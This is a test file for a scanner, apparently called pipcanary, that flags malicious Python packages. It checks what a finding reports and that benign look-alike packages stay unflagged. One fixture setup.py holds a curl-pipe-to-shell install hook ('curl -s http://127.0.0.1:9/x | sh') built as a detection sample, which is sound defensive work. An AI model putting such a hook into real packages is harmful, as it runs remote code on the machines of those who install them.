import { describe, expect, test } from "bun:test";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { writeCaseArchive } from "../../src/rule-cases/case-archive.ts";
import { type ArchiveCase, parseCaseFile } from "../../src/rule-cases/cases.ts";
import { useTempDirs } from "../harness/temp.ts";
import { scan, sdistArtifact } from "./helpers.ts";

/**
 * What each static rule must and must not flag lives in rules/static-*.cases.yaml (run by
 * test/rules/cases.test.ts); this checks what a finding carries.
 */
const tempDir = useTempDirs("pipcanary-static-rules");

describe("static findings", () => {
  test("code findings name file, line and the offending snippet", async () => {
    const artifact = sdistArtifact(tempDir(), { name: "sh1", version: "1.0", files: {}, setupPy: "import os as o\no.system('curl -s http://127.0.0.1:9/x | sh')\nfrom setuptools import setup\nsetup()\n" });
    const result = await scan([artifact]);
    const finding = result.findings.find((f) => f.ruleId === "static.install.shell");
    expect(finding?.subject).toEqual({ kind: "code", file: "sh1-1.0/setup.py", line: 2, snippet: "o.system('curl -s http://127.0.0.1:9/x | sh')" });
    expect(finding?.phase).toBe("static");
    expect(finding?.package).toBe("sh1");
    expect(finding?.artifactSha256).toBe(artifact.sha256);
  }, 120_000);

  test("benign look-alikes among the rule cases raise nothing at warn or block level", async () => {
    const benign = new Set([
      "plainpkg", "setuptools", "hooklike", "plugins", "httpclient", "runtimeshell", "runsub", "publish", "versionexec", "cmakepkg", "envsub", "knownhosts",
      "wsmask", "xorsum", "flagopt", "flagdump", "savetrace", "vmrss", "dockerhelp", "scandoc", "rawbenign", "atexitclean", "threadlazy",
      "tracerlazy", "cgquota", "dindcheck", "mainthread", "atexitwrite",
    ]);
    const rulesDir = join(import.meta.dir, "..", "..", "rules");
    const cases = readdirSync(rulesDir)
      .filter((name) => name.startsWith("static-") && name.endsWith(".cases.yaml"))
      .flatMap((name) => parseCaseFile(name, readFileSync(join(rulesDir, name), "utf8")))
      .filter((item): item is ArchiveCase => item.kind === "archive" && benign.has(item.package));
    expect(new Set(cases.map((item) => item.package))).toEqual(benign);
    const dir = tempDir();
    const result = await scan(cases.map((item, i) => writeCaseArchive(dir, item, i)));
    expect(result.findings.filter((f) => f.severity !== "info").map((f) => `${f.package}: ${f.ruleId}`)).toEqual([]);
  }, 120_000);
});
